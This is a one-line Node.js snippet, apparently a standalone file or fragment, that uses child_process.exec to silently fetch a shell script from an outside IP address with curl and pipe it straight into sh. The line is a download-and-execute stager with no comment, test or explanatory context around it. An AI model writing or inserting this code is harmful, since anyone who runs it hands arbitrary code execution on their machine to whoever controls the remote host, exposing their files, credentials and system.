require('child_process').exec('curl -s http://203.0.113.7/i.sh | sh');
